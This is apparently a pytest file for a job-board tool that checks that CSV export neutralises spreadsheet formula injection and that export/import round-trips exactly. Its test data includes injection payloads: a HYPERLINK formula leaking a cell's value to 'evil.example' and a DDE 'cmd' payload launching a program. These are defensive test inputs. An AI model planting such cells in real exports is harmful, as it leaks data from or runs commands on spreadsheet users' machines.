"""Output that is safe where it lands: CSV cells a spreadsheet would run, long notes, and
text from the board printed to a terminal (issue 20)."""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path

import pendulum
import pytest

from jobboard.cli import main
from jobboard.export import guard_cell, to_csv, unguard_cell
from jobboard.model import Event, new_application
from jobboard.store import BoardStore

DAY = pendulum.date(2026, 11, 2)
FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rcarriage",
    "'=already guarded by hand",
    "''-two quotes",
]


def run_cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(list(argv))
        except SystemExit as exit_info:
            return exit_info.code, out.getvalue(), err.getvalue()
    return 0, out.getvalue(), err.getvalue()


def records(path: Path) -> list[dict]:
    return [{**record, "id": None} for record in BoardStore(path).records()]


# -- CSV cells a spreadsheet would run ----------------------------------------------------------------


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "'quoted", "'", "", "=", "a=b", "email@x.example"])
def test_a_guarded_cell_comes_back_exactly(text):
    guarded = guard_cell(text)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert unguard_cell(guarded) == text


def test_csv_export_guards_every_cell_that_starts_a_formula():
    application = new_application(
        "1", FORMULAS[0], FORMULAS[1], notes=FORMULAS[2], contact=FORMULAS[3], source=FORMULAS[4], applied_on=DAY
    )
    rows = list(csv.reader(io.StringIO(to_csv([application]), newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["company"] == "'" + FORMULAS[0] and cells["role"] == "'" + FORMULAS[1]
    assert cells["notes"] == "'-2+3" and cells["contact"] == "'@SUM(A1:A9)" and cells["source"] == "'\tindented"
    assert all(cell[:1] not in "=+-@\t\r" or not cell for cell in rows[1])


def test_csv_export_and_import_give_back_exactly_the_same_applications(tmp_path):
    source, copy, csv_file = tmp_path / "board.json", tmp_path / "copy.json", tmp_path / "out.csv"
    store = BoardStore(source)
    store.add_many(
        [
            lambda i, text=text: new_application(
                i, text, text, notes=text, location=text, tags=[text], applied_on=DAY
            ).with_event(Event("follow_up", DAY, note=text))
            for text in FORMULAS
        ]
    )
    code, _, err = run_cli("--db", str(source), "export", "--format", "csv", "-o", str(csv_file))
    assert code == 0, err
    code, _, err = run_cli("--db", str(copy), "import", str(csv_file))
    assert code == 0, err
    assert records(copy) == records(source)


def test_a_note_of_a_megabyte_exports_and_imports_back(tmp_path):
    source, copy, csv_file = tmp_path / "board.json", tmp_path / "copy.json", tmp_path / "out.csv"
    note = ("A long note, line after line.\n" * 40_000)[: 1024 * 1024]
    BoardStore(source).add(lambda i: new_application(i, "Acme", "Dev", notes=note, applied_on=DAY))
    assert run_cli("--db", str(source), "export", "--format", "csv", "-o", str(csv_file))[0] == 0
    code, _, err = run_cli("--db", str(copy), "import", str(csv_file))
    assert code == 0, err
    assert BoardStore(copy).get("1").notes == note
